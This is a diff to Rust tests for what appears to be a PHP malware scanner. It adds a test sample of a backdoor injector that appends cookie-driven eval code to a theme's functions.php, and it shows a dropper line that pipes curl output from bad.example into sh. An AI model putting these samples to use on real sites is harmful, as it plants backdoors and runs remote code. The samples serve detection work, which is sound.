@@ -211,6 +211,11 @@ fn each_fixture_is_reported_for_its_family() {
             Why::CredentialCollector,
         ),
         (
+            "injector_pastes_cookie_eval.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/injector_pastes_cookie_eval.php"),
+            Why::WritesCodeWithInput,
+        ),
+        (
             "encoded_script_tag_printed.php",
             include_str!("../../../tests/fixtures/sweep/malicious/encoded_script_tag_printed.php"),
             Why::InjectedScript,
@@ -332,6 +337,32 @@ fn droppers_are_found() {
     assert_eq!(found(piped), [Why::DownloadsProgram]);
     let piped_sh = "<?php shell_exec('curl -fsSL https://bad.example/i' . ' | sh');";
     assert_eq!(found(piped_sh), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn statements_pasted_into_the_sites_files_are_droppers() {
+    // An injector: lines of code without an open tag, added to a theme's functions file; the
+    // open tag it names is one it looks for in the files it changes.
+    let snippet = "global $seen;\nif (!empty($_COOKIE['k']) && empty($seen)) {\n    $seen = true;\n    \
+                   $c = $_COOKIE['k'];\n    if (substr($c, 0, 5) === '<?php') { $c = substr($c, 5); }\n    \
+                   $v = eval($c);\n    echo $v;\n}\n// kept in the theme, run on every page it shows.\n";
+    let injector = format!(
+        "<?php $code = <<<'EOD'\n{snippet}EOD;\n$f = get_template_directory() . '/functions.php';\n\
+         file_put_contents($f, file_get_contents($f) . \"\\n\" . $code);"
+    );
+    assert_eq!(found(&injector), [Why::WritesCodeWithInput]);
+}
+
+#[test]
+fn statements_and_patterns_that_run_nothing_from_the_request_are_not_droppers() {
+    // A settings file written from a template of statements: no request input run.
+    let config = "<?php $tpl = \"<?php\\n\\$db_host = 'localhost';\\n\\$db_user = 'shop';\\n\\$db_name = 'shop';\\n\\$db_prefix = 'sh_';\\n\\$debug = false;\\n\\$cache = true;\\n\\$secret = 'x';\\n\\$timeout = 30;\\n\\$lang = 'en';\\n\"; \
+                  file_put_contents('config.php', $tpl);";
+    assert!(found(config).is_empty());
+    // A scanner's signatures: patterns of one line each, not statements.
+    let patterns = "<?php $sigs = ['eval\\(\\$_POST\\[', 'assert\\(\\$_REQUEST', 'system\\(\\$_GET\\[']; \
+                    file_put_contents('scan.log', implode(\"\\n\", $sigs));";
+    assert!(found(patterns).is_empty());
 }
 
 #[test]
